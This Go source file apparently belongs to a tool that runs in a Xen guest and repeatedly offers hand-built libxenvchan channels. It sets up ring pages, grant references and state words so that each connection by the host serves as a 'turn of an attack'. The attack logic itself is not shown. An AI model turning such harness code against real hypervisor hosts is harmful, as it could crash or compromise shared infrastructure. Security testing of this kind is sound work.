package main

import (
	"encoding/binary"
	"os"
	"time"
)

// Layout of the page, xen/io/libxenvchan.h. Left is what the host writes, with
// order 11; right is what we write, with order 10.
const (
	leftCons, leftProd   = 0, 4
	rightCons, rightProd = 8, 12
	orders, state        = 16, 20
	grants               = 24
	rightAt, rightSize   = 1024, 1024
	leftAt, leftSize     = 2048, 2048
)

// offer is one vchan of ours, by hand.
type offer struct {
	channel
	in  uint32 // what we have read, and written
	out uint32
}

// offers makes one channel after another, each for a turn of an attack, until
// the time is over.
func (g *guest) offers(turn func(n int, o *offer)) error {
	for n := 0; !g.over(); n++ {
		o, err := g.offer(11, 10, 1)
		if err != nil {
			return err
		}
		turn(n, o)
		o.close()
	}
	return nil
}

// taken is offers for an attack on a host that has connected.
func (g *guest) taken(turn func(n int, o *offer)) error {
	return g.offers(func(n int, o *offer) {
		if o.taken() {
			turn(n, o)
		}
	})
}

// offer makes a channel and publishes it.
func (g *guest) offer(left, right uint16, pages int) (*offer, error) {
	o, err := g.prepare(hostID, hostID, left, right, pages)
	if err == nil {
		o.publish()
	}
	return o, err
}

// prepare makes a channel whose page is granted to one domain and whose port
// waits for another.
func (g *guest) prepare(pageFor, portFor, left, right uint16, pages int) (*offer, error) {
	c, err := g.channel(pageFor, portFor, pages)
	if err != nil {
		return nil, err
	}
	o := &offer{channel: c}
	o.format(left, right)
	return o, nil
}

func (o *offer) format(left, right uint16) {
	clear(o.page[:4096])
	o.in, o.out = 0, 0
	o.order(left, right)
	for i, ref := range o.refs[1:] {
		binary.LittleEndian.PutUint32(o.page[grants+4*i:], ref)
	}
	o.word(state).Store(0x00010102) // cli_live 2, srv_live 1, cli_notify WRITE
}

func (o *offer) order(left, right uint16) {
	binary.LittleEndian.PutUint16(o.page[orders:], left)
	binary.LittleEndian.PutUint16(o.page[orders+2:], right)
}

func (o *offer) publish() {
	o.g.write(o.g.path+"/event-channel", number(o.port))
	o.g.write(o.g.path+"/ring-ref", number(o.refs[0]))
	o.g.count("offers", 1)
}

// here says whether the host has connected; gone, that it has left.
func (o *offer) here() bool { return byte(o.word(state).Load()) == 1 }
func (o *offer) gone() bool { return byte(o.word(state).Load()) == 0 }

// taken waits until the host has connected. It does so once a second at most,
// after a while.
func (o *offer) taken() bool { return o.connected(5*time.Second, "connects") }

// connected waits for as long as d, and counts it if the host has connected.
func (o *offer) connected(d time.Duration, what string) bool {
	ok := o.g.until(d, o.here)
	if ok {
		o.g.count(what, 1)
	}
	return ok
}

// Write puts p into the ring, with an event.
func (o *offer) Write(p []byte) (int, error) {
	room := func() bool { return o.out-o.word(rightCons).Load() < rightSize || o.gone() }
	for i, b := range p {
		if !o.g.until(10*time.Second, room) || o.gone() {
			return i, os.ErrClosed
		}
		o.page[rightAt+int(o.out%rightSize)] = b
		o.out++
	}
	o.word(rightProd).Store(o.out)
	o.notify()
	return len(p), nil
}

// Read takes what the host wrote, at least a byte.
func (o *offer) Read(p []byte) (int, error) {
	ready := func() bool { return o.word(leftProd).Load() != o.in || o.gone() }
	if !o.g.until(10*time.Second, ready) || o.word(leftProd).Load() == o.in {
		return 0, os.ErrClosed
	}
	n := 0
	for ; n < len(p) && o.in != o.word(leftProd).Load(); n++ {
		p[n] = o.page[leftAt+int(o.in%leftSize)]
		o.in++
	}
	o.word(leftCons).Store(o.in)
	o.notify()
	return n, nil
}

// skip has read all that the host wrote, unseen.
func (o *offer) skip() { o.word(leftCons).Store(o.word(leftProd).Load()) }

// close takes port and pages back; the nodes stay. It says so: the host would
// wait for a page that just stays away as long as for a guest that is silent,
// and the next attack with it.
func (o *offer) close() {
	o.word(state).Store(0)
	o.notify()
	o.release()
}
